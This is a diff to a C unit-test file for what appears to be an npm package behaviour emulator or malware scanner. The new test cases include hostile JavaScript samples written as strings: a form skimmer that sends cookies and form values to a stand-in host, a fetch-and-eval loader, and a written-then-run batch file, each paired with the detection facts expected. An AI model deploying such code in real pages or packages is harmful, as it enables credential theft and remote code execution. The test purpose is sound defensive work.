@@ -178,6 +178,28 @@ static const Case flows[] = {
     { "a template engine is no loader", "a.js",
       "exports.compile = t => new Function('d', 'return ' + JSON.stringify(t) + ' + d')('x')",
       "!net.\n!proc.", NULL, NULL },
+    { "generators that were compiled away", "a.js",
+      "(function () { return regeneratorRuntime.async(function f$(c) { while (1) switch (c.prev = "
+      "c.next) { case 0: c.prev = 0; c.next = 3; return "
+      "regeneratorRuntime.awrap(fetch('https://example.invalid/s')); case 3: c.next = 5; return "
+      "regeneratorRuntime.awrap(c.sent.text()); case 5: eval(c.sent); throw 1; case 8: c.prev = 8; "
+      "c.t0 = c['catch'](0); require('child_process').exec('echo caught' + c.t0); case 'end': "
+      "return c.stop() } }, null, this, [[0, 8]]) })()",
+      "code.eval|<net>|eval <- net.request\nproc.exec|echo caught1|exec", NULL, NULL },
+    { "a form on a page, at night", "a.js",
+      "if (typeof window !== 'undefined' && new Date().getHours() > 20) for (const f of "
+      "document.forms) f.addEventListener('submit', function () { let d = document.cookie; for "
+      "(const e of this.elements) d += '|' + e.value; const l = document.createElement('link'); "
+      "l.href = 'https://example.invalid/?' + btoa(d); document.head.appendChild(l) })",
+      "secret.read|cookies\nsecret.read|form password\nnet.request|https://example.invalid/?", NULL,
+      NULL },
+    { "a batch file that was written", "a.js",
+      "require('fs').writeFileSync('go.bat', '@echo off\\nnode -e "
+      "\"require(`child_process`).exec(`echo inner`)\"'); "
+      "require('child_process').exec('\"go.bat\"')",
+      "proc.exec|\"go.bat\"|exec <- file.write\nproc.exec|echo inner|exec", NULL, NULL },
+    { "leaving is not leaving", "a.js", "process.exit(3); require('child_process').exec('echo on')",
+      "call|process.exit|3\nproc.exec|echo on|exec", NULL, NULL },
     { "settings from its own file", "a.js",
       "const c = require('./config.json'); require('child_process').exec('echo ' + c.word)",
       "proc.exec|echo fine|exec", "config.json", "{\"word\":\"fine\"}" },
@@ -191,6 +213,43 @@ static void test_flows(void **state)
         FAKE_SINK fake =
             package(flows[i].file, flows[i].script, flows[i].other_name, flows[i].other);
         missing += miss_facts(flows[i].name, run(fake), flows[i].wanted);
+    }
+    assert_int_equal(missing, 0);
+}
+
+/* What npm and editors run is a command line. */
+static void test_commands(void **state)
+{
+    (void)state;
+    static const struct {
+        const char *command, *wanted;
+    } cases[] = {
+        { "node a.js && echo done", "proc.exec|echo from-a|exec" },
+        { "(command -v node >/dev/null 2>&1 && node ./a.js) || (where node && node ./a.js)",
+          "proc.exec|echo from-a|exec" },
+        { "node -e \"require('child_process').exec('echo one-liner')\"",
+          "proc.exec|echo one-liner|exec" },
+        { "chmod +x go.sh && ./go.sh", "proc.exec|echo from-a|exec" },
+        { "sh -x go.sh", "proc.exec|echo from-a|exec" },
+        { "./absent.sh; node absent.js; node", "!from-a" },
+        { "\"unclosed && node a.js", "!code.eval" },
+        { "", "!from-a" },
+    };
+    int missing = 0;
+    for (size_t i = 0; i < RT_COUNT(cases); i++) {
+        FAKE_SINK fake =
+            package("package.json", "{}", "a.js", "require('child_process').exec('echo from-a')");
+        fake->sink.layer(&fake->sink, (RtLayer){ .parent = 1,
+                                                 .via = RT_VIA_ENTRY,
+                                                 .name = RT_STR("go.sh"),
+                                                 .bytes = RT_STR("#!/bin/sh\n# so\nnode a.js") });
+        RtEmulationEntry entry = { .kind = RT_RUN_COMMAND,
+                                   .layer = 2,
+                                   .phase = RT_WHEN_INSTALL,
+                                   .hook = RT_STR("install"),
+                                   .command = rt_str_from_c(cases[i].command) };
+        rt_emulate(emulator, &(RtEmulation){ .entries = &entry, .count = 1 }, &fake->sink);
+        missing += miss_facts(cases[i].command, say_facts(fake), cases[i].wanted);
     }
     assert_int_equal(missing, 0);
 }
@@ -435,10 +494,15 @@ static int close_emulator(void **state)
 int main(void)
 {
     const struct CMUnitTest tests[] = {
-        cmocka_unit_test(test_flows),           cmocka_unit_test(test_destroyed_bytes),
-        cmocka_unit_test(test_layers),          cmocka_unit_test(test_places),
-        cmocka_unit_test(test_hostile_scripts), cmocka_unit_test(test_same_bytes_same_trace),
-        cmocka_unit_test(test_marks),           cmocka_unit_test(test_inflate),
+        cmocka_unit_test(test_flows),
+        cmocka_unit_test(test_commands),
+        cmocka_unit_test(test_destroyed_bytes),
+        cmocka_unit_test(test_layers),
+        cmocka_unit_test(test_places),
+        cmocka_unit_test(test_hostile_scripts),
+        cmocka_unit_test(test_same_bytes_same_trace),
+        cmocka_unit_test(test_marks),
+        cmocka_unit_test(test_inflate),
     };
     return cmocka_run_group_tests(tests, open_emulator, close_emulator);
 }
